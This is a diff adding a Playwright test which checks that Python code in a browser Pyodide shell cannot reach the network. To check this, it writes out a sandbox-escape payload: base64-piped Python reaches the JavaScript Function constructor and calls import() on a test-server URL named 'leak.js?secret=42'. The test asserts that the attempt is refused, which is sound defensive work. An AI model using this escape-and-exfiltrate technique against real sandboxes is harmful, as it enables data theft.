@@ -195,3 +195,33 @@ test('Python runs offline once the service worker has cached the engines', async
   await workspaceOf(page).locator('summary', { hasText: 'Shell' }).click();
   expect(await runInShell(page, 'python3 -c "print(6*7)"')).toBe('Exit code: 0\n42');
 });
+
+test('code in the shell cannot reach the network, not even through dynamic import()', async ({
+  page,
+  llm,
+}) => {
+  test.setTimeout(2 * PYTHON_COLD_TIMEOUT);
+  await openShell(page);
+  await page.evaluate(async () => {
+    await navigator.serviceWorker.ready;
+    if (!navigator.serviceWorker.controller) {
+      await new Promise((r) => navigator.serviceWorker.addEventListener('controllerchange', r));
+    }
+  });
+  // Workers started from now on are the service worker's clients.
+  await page.reload();
+  await expectReply(page, 'Here is your haiku');
+  await workspaceOf(page).locator('summary', { hasText: 'Shell' }).click();
+
+  // Any JS object leads Python to the realm's Function constructor, and from there to import().
+  const leak = new URL('/leak.js?secret=42', llm.url).href;
+  const python = (lines: string[]) =>
+    `echo ${Buffer.from(lines.join('\n')).toString('base64')} | base64 -d > /tmp/p.py && python3 /tmp/p.py`;
+  const realm = 'from pyodide.ffi import to_js; F = to_js([]).constructor.constructor';
+  const fire = `F("import('${leak}').then(() => self.__leak = 'loaded', (e) => self.__leak = 'refused: ' + e.message)")()`;
+  expect(await runInShell(page, python([realm, fire]))).toBe('Exit code: 0');
+  await expect
+    .poll(async () => runInShell(page, python([realm, "print(F('return String(self.__leak)')())"])))
+    .toMatch(/^Exit code: 0\nrefused: /);
+  expect(llm.requests.map((r) => r.path)).not.toContainEqual(expect.stringContaining('leak'));
+});
